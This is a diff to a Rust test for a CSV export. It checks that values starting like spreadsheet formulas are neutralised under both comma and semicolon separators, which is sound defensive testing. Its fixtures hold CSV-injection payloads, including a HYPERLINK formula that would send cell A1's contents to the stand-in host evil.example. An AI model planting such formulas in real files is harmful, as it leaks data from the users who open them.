@@ -45,8 +45,18 @@ pub(crate) async fn download(
 }
 
 pub(crate) fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
+    csv_rows_split_at(bytes, b',')
+}
+
+/// The rows as a spreadsheet whose list separator is `separator` reads
+/// them (Excel in many European locales splits at `;`).
+fn csv_rows_split_at(bytes: &[u8], separator: u8) -> Vec<Vec<String>> {
     assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 with a byte-order mark");
-    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .delimiter(separator)
+        .from_reader(&bytes[3..]);
     reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
 }
 
@@ -355,6 +365,9 @@ async fn text_that_starts_like_a_formula_is_neutralised_in_csv_and_stays_text_in
     let at = "2025-01-01T00:00:00Z";
     let record = |kind: &str, id: i64, body: serde_json::Value| record(HOSTILE, kind, id, body);
     let hyperlink = "=HYPERLINK(\"http://evil.example\",\"x\")";
+    // A formula after a `;`: a live one where `;` separates cells, if the
+    // cell were written unquoted.
+    const SEMICOLON: &str = "x;=HYPERLINK(\"https://evil.example/?\"&A1;\"y\")";
     let records = [
         record("tenant_settings", 1, serde_json::json!({"time_zone": "UTC", "currency": "USD"})),
         record(
@@ -363,7 +376,20 @@ async fn text_that_starts_like_a_formula_is_neutralised_in_csv_and_stays_text_in
             serde_json::json!({"customer_number": "+SUM(1+1)", "company_name": hyperlink,
                 "email": "a@evil.example", "created_at": at}),
         ),
+        record(
+            "customer",
+            2,
+            serde_json::json!({"customer_number": "C-2", "company_name": SEMICOLON,
+                "email": "b@evil.example", "created_at": at}),
+        ),
         record("sales_rep", 5, serde_json::json!({"name": "@SUM(1,1)"})),
+        record(
+            "order",
+            2,
+            serde_json::json!({"order_number": "O-2", "customer_id": 2, "sales_rep_id": 5, "source": "api",
+                "status": "completed", "currency": "USD", "total_amount": "3.00",
+                "ordered_at": "2025-12-11T12:00:00Z"}),
+        ),
         record(
             "order",
             1,
@@ -391,6 +417,22 @@ async fn text_that_starts_like_a_formula_is_neutralised_in_csv_and_stays_text_in
             "USD"
         ]
     );
+    assert_eq!(
+        rows[2][3], "x;'=HYPERLINK(\"https://evil.example/?\"&A1;\"y\")",
+        "one cell, the piece after `;` neutralised"
+    );
+    // Read with either separator, no cell starts a formula.
+    for separator in [b',', b';'] {
+        for row in csv_rows_split_at(&bytes, separator) {
+            for cell in row {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "split at {:?}: {cell:?}",
+                    separator as char
+                );
+            }
+        }
+    }
 
     let (status, _, body) = stack
         .get_with(
